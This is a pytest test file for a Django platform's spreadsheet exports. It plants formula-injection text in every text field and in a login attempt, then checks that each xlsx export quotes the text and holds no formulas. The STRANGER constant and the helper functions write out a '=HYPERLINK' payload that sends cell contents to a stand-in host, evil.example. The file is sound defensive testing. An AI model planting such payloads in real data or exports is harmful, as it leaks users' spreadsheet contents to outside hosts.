"""Every export of the platform, with hostile text planted in every text field, holds no formula.

The demo gives every kind of row an export can show (returns with explanations, leads, rounds,
targets, rosters, issues…). Every free-text column of every kaifaqu model is then overwritten
with text that a spreadsheet program would run (`=HYPERLINK(…)`, `+`, `-`, `@`, tab, CR), and
every URL of the URL conf that returns a spreadsheet is downloaded as each demo persona. No cell
may be a formula, and the planted text must come back quoted (proof it reached the export).
A new export is walked automatically: it is found by its URL name (`…-export`, `…-template`) and
by its view (a registry export, an import template, any view class named `…Export…View`).
"""

from __future__ import annotations

import inspect
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from typing import Any
from unittest import mock

import pytest
from django.apps import apps
from django.db import models, transaction
from django.db.models import Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import get_resolver, reverse
from django.urls.resolvers import URLPattern, URLResolver
from django.utils import timezone
from openpyxl import load_workbook

from kaifaqu.accounts.models import User
from kaifaqu.core.crypto.fields import EncryptedMixin
from kaifaqu.core.exports import FORMULA_TRIGGERS
from kaifaqu.core.imports.views import ImportTemplateView
from kaifaqu.core.views.registry import RegistryExportView
from kaifaqu.demo.services import demo_load
from kaifaqu.projects.models import Round

pytestmark = pytest.mark.django_db

DAY = date(2026, 3, 15)
# Codes and keys the platform looks rows up by (not text a person typed and a reader sees).
NOT_TEXT = {"uscc", "code", "username", "password", "email", "token", "key", "sha256", "unit"}
NOT_TEXT |= {"industry_scope", "division", "slice_key", "indicator", "rule", "field", "task_id"}
# The log, progress and computed cells are the platform's own bookkeeping.
NOT_TYPED = {"accounts.AccessEvent", "core.JobProgress", "indicators.IndicatorCell"}
PERSONAS = ["tongji", "demo", "shanxi", "zhaoshang", "shendian", "lvjing", "sysadmin"]
PERSONAS += ["secadmin", "auditadmin"]
# What a stranger sends as a user name or browser (the access log's export shows both).
STRANGER = '=HYPERLINK("http://evil.example/?leak="&A1,"登录")'
# Spreadsheets behind an address whose name does not end in -export: (name, query).
OTHER_EXPORTS = {
    "accounts:access-log": {"export": "xlsx"},
    "accounts:change-history": {"export": "xlsx"},
}


def _quiet(_line: str) -> None:
    pass


def _hostile(index: int, max_length: int | None) -> Any:
    """Text that starts a formula, unique per row (the row's id is in it), within the length."""
    trigger = FORMULA_TRIGGERS[index % len(FORMULA_TRIGGERS)]
    if trigger == "=" and (max_length is None or max_length >= 60):
        return Concat(
            Value('=HYPERLINK("http://evil.example/?leak="&A1,"'),
            Cast("pk", models.CharField()),
            Value('")'),
        )
    return Concat(Value(trigger + "1+"), Cast("pk", models.CharField()))


def _hostile_text(index: int, max_length: int | None, pk: int) -> str:
    """_hostile's text, computed here, for fields the database cannot write (encrypted)."""
    trigger = FORMULA_TRIGGERS[index % len(FORMULA_TRIGGERS)]
    if trigger == "=" and (max_length is None or max_length >= 60):
        return f'=HYPERLINK("http://evil.example/?leak="&A1,"{pk}")'
    return f"{trigger}1+{pk}"


def _plant() -> int:
    planted = 0
    for model in apps.get_models():
        if not model.__module__.startswith("kaifaqu.") or model._meta.proxy:
            continue
        if not model._meta.managed or model._meta.label in NOT_TYPED:
            continue
        for index, field in enumerate(model._meta.concrete_fields):
            if not isinstance(field, models.CharField | models.TextField):
                continue
            if field.primary_key or field.choices or field.name in NOT_TEXT:
                continue
            if field.max_length is not None and field.max_length < 12:
                continue
            # Only text that is there: an empty field often means something (no explanation).
            rows = model._default_manager.exclude(**{field.name: ""}).exclude(
                **{f"{field.name}__isnull": True}
            )
            if isinstance(field, EncryptedMixin):
                # The database cannot write an encrypted field: the same text, row by row.
                for pk in rows.values_list("pk", flat=True):
                    value = _hostile_text(planted + index, field.max_length, pk)
                    planted += model._default_manager.filter(pk=pk).update(**{field.name: value})
                continue
            planted += rows.update(**{field.name: _hostile(planted + index, field.max_length)})
    return planted


@pytest.fixture(scope="module", autouse=True)
def _demo(django_db_setup: None, django_db_blocker: Any) -> Iterator[None]:
    with (
        mock.patch.object(timezone, "localdate", return_value=DAY),
        django_db_blocker.unblock(),
        transaction.atomic(),
    ):
        demo_load(echo=_quiet, today=DAY)
        assert _plant() > 1000
        # A failed sign-in with a formula for a name and a browser: the access log records both.
        Client(HTTP_USER_AGENT=STRANGER).post(
            reverse("accounts:login"), {"username": STRANGER, "password": "x"}
        )
        yield
        transaction.set_rollback(True)


def _patterns(resolver: URLResolver, namespace: str | None = None) -> Iterator[tuple[str, Any]]:
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = pattern.namespace
            yield from _patterns(
                pattern, f"{namespace}:{inner}" if namespace and inner else inner or namespace
            )
        elif isinstance(pattern, URLPattern) and pattern.name:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, getattr(pattern.callback, "view_class", pattern.callback)


def _is_spreadsheet_view(view: Any) -> bool:
    """A view that can answer with a spreadsheet: a registry export, a template, a class named
    …Export…View, or any view whose code hands a workbook out (xlsx_download, XLSX_TYPE)."""
    if isinstance(view, type) and (
        issubclass(view, RegistryExportView | ImportTemplateView)
        or ("Export" in view.__name__ and view.__name__.endswith("View"))
    ):
        return True
    try:
        source = inspect.getsource(view)
    except (OSError, TypeError):
        return False
    return "xlsx_download" in source or "XLSX_TYPE" in source


def export_names() -> list[str]:
    by_name = set(OTHER_EXPORTS)
    by_view = set()
    for name, callback in _patterns(get_resolver()):
        if name.startswith("api:"):
            continue
        if name.endswith(("-export", "-template")):
            by_name.add(name)
        if _is_spreadsheet_view(callback):
            by_view.add(name)
    # A spreadsheet view whose name does not say so would escape a walk by name: refuse it.
    assert by_view <= by_name, by_view - by_name
    return sorted(by_name)


EXPORTS = export_names()


def _address(name: str) -> tuple[str, dict[str, str]]:
    if name == "projects:round-summary-export":
        return reverse(name, args=[Round.objects.order_by("pk").first().pk]), {}  # type: ignore[union-attr]
    if name == "indicators:indicator-contributions-export":
        return reverse(name, args=["gross_output"]), {"month": "2025-12", "by": "park"}
    if name == "indicators:indicator-export":
        return reverse(name), {"month": "2026-02"}
    return reverse(name), OTHER_EXPORTS.get(name, {})


def _cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_walk_finds_the_exports_and_the_templates() -> None:
    assert len(EXPORTS) >= 20
    assert "returns:return-export" in EXPORTS
    assert "projects:lead-export" in EXPORTS
    assert "accounts:access-log" in EXPORTS
    assert "accounts:change-history" in EXPORTS


@pytest.mark.parametrize("name", sorted(OTHER_EXPORTS))
def test_only_the_audit_administrator_exports_the_audit_trail(name: str) -> None:
    # 三员分立: the access log and the history of data changes leave the platform with the audit
    # administrator only, neither the system nor the security administrator nor any office.
    address, query = _address(name)
    downloaded = set()
    for username in PERSONAS:
        client = Client()
        client.force_login(User.objects.get(username=username))
        response = client.get(address, query)
        assert response.status_code in (200, 403, 404), (username, response.status_code)
        if response.status_code == 200:
            downloaded.add(username)
    assert downloaded == {"auditadmin"}


@pytest.mark.parametrize("name", EXPORTS)
def test_no_export_writes_a_formula_whatever_the_users_typed(name: str) -> None:
    address, query = _address(name)
    downloads = 0
    quoted = 0
    for username in PERSONAS:
        client = Client(HTTP_USER_AGENT=STRANGER)
        client.force_login(User.objects.get(username=username))
        response = client.get(address, query)
        if response.status_code != 200:
            assert response.status_code in (403, 404), (username, response.status_code)
            continue
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        downloads += 1
        for cell in _cells(response.content):
            assert cell.data_type != "f", (username, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_TRIGGERS), (username, cell.value)
                quoted += cell.value.startswith("'")
    assert downloads, f"no persona could download {name}"
    if not name.endswith("-template"):
        # The planted text reached this export, quoted: the walk tested something.
        assert quoted, f"{name} showed none of the planted text"
